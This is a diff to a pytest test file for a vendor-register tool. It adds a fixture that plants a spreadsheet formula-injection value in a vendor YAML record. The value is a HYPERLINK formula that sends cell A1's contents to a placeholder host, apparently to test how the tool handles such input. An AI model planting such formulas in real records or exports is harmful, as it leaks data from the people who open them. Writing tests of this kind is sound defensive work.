@@ -17,6 +17,9 @@ from vendorbook.yaml_source import read
 
 RECORD = "vendors/paper-crane/website/engagement.yaml"
 ENTRY = "vendors/paper-crane/website/journal/2026-11-20-risk-assessment.yaml"
+HOSTILE = """'=HYPERLINK("https://example.invalid/?"&A1,"x")'"""
+"""What a record says of a service, in quotes that YAML takes off."""
+
 AUTHOR = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "duo.fangzheng@paper-boat.example"}
 
 
@@ -24,9 +27,10 @@ AUTHOR = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "duo.fangzheng@paper-boat.
 def repo(tmp_path_factory: pytest.TempPathFactory, example_files: dict[str, bytes]) -> Repo:
     """Not to be changed."""
     made = Repo(tmp_path_factory.mktemp("register") / "repo")
-    made.commit(dict(example_files), "all of it")
-    changed = example_files[RECORD].replace(b"trading_host: false", b"trading_host: true")
-    assert changed != example_files[RECORD]
+    hostile = example_files[RECORD].replace("公司網站改版設計與前端開發".encode(), HOSTILE.encode())
+    made.commit({**example_files, RECORD: hostile}, "all of it")
+    changed = hostile.replace(b"trading_host: false", b"trading_host: true")
+    assert example_files[RECORD] != hostile != changed
     made.commit({RECORD: changed}, "without an assessment")
     second = changed.replace(b"real_time_quotes: false", b"real_time_quotes: true")
     digest = scope_digest(read(second, RECORD).root.get("scope"))  # type: ignore[arg-type]
